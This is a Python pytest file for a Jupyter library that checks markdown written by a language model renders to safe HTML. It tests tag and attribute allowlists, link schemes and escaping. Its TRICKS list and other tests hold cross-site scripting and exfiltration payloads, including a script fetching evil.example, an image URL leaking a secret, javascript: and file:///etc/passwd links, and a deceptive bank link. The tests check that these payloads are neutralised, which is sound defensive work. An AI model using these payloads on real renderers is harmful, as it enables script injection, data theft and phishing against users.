"""What a model writes shows harmlessly: no script, no load, no hidden target, no false citation."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aai_jupyter.asking.answer import Answer
from aai_jupyter.asking.markdown import to_html
from aai_jupyter.asking.prompt_turns import PromptTurn, turns_of
from aai_jupyter.asking.schema_forms import schema_of
from aai_jupyter.asking.tool_calls import ToolRun
from tests.asking.recordings import meeting

ALLOWED = {
    *(
        "p",
        "strong",
        "em",
        "s",
        "code",
        "pre",
        "a",
        "span",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "br",
        "div",
    ),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
    *("blockquote", "mark", "details", "summary"),
}
ATTRIBUTES = {
    *("href", "rel", "target", "style", "title", "class", "dir", "start", "border"),
    *("data-aai-seek", "data-aai-transcript", "data-aai-turn"),
}


class Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.links, self.attributes = [], [], set()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [
            value for name, value in attrs if name in ("href", "src", "data", "action", "background")
        ]
        for name, value in attrs:
            assert name != "style" or "url(" not in value


def read(html):
    reader = Reader()
    reader.feed(html)
    assert set(reader.tags) <= ALLOWED, html
    assert reader.attributes <= ATTRIBUTES, html
    for link in reader.links:
        assert link.startswith(("http://", "https://", "#aai-seek-")), html
    return reader


TRICKS = [
    "<script>fetch('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?q=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "[click](\\\\evil.example\\share)",
    "[click](//evil.example)",
    "<https://evil.example>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>@import 'https://evil.example'</style>",
    "<!-- comment --><svg onload=alert(1)>",
    "</div></body><h1>new page</h1>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    "| a | b |\n|---|---|\n| <img src=x> | ![](https://evil.example) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[a](https://evil.example/?<script>)",
    "\u202e gnp.exe \x1b[31m \x00",
    "> " * 500 + "deep",
    "[" * 3000 + "](x)" * 3000,
    "*" * 5000,
]


@pytest.mark.parametrize("trick", TRICKS)
def test_tricks_show_harmlessly(trick):
    html = to_html(
        f"Before {trick} after [4]\n\n{trick}", Answer("q", "", "m", turns=turns_of(meeting())).checker
    )
    read(html)
    assert "<script" not in html
    assert "<img" not in html
    assert "\u202e" not in html


def test_links_show_their_host_and_deceiving_ones_are_none():
    html = to_html("[your bank](https://evil.example/login) [b](https://bank.example@evil.example)")
    assert read(html).links == ["https://evil.example/login"]
    assert "(evil.example)" in html


def test_a_definition_cannot_turn_citations_into_links():
    answer = Answer("q", "Yes [4].\n\n[4]: https://evil.example", "m", turns=turns_of(meeting()))
    reader = read(answer._repr_html_())
    assert reader.links == ["#aai-seek-27.000", "#aai-seek-27.000"]


def test_citations_are_links_that_a_player_can_follow():
    answer = Answer("q", 'On Friday [4]; "not a word of this" [2], [9].', "m", turns=turns_of(meeting()))
    html = answer._repr_html_()
    assert 'data-aai-seek="27.000" data-aai-transcript="t1"' in html
    assert "[9?]" in html
    assert "Not in the transcript word for word" in html
    read(html)


def test_names_questions_notes_tools_and_rows_are_escaped():
    evil = "<img src=x onerror=alert(1)>"
    turns = [PromptTurn(1, evil, 1.0, 2.0, evil, evil, evil)]
    run = ToolRun(evil, {evil: evil}, evil, False, 0.1)
    answer = Answer(evil, "[1]", evil, turns=turns, notes=[evil], tool_runs=[run])
    read(answer._repr_html_())
    rows = Answer("q", "{}", "m", schema=schema_of("a: str"), rows=[{"a": evil}])
    assert "<img" not in rows._repr_html_()
    bad = Answer("q", evil, "m", schema=schema_of("a: str"), problem=evil)
    assert "<img" not in bad._repr_html_()


@given(st.text(st.sampled_from(list("[]()<>!*_`#|&\"' \n:/=ahttps.js13-")), max_size=120))
def test_no_markdown_gets_through(text):
    read(Answer("q", text, "m", turns=turns_of("We open in April.")).html_parts()[0])
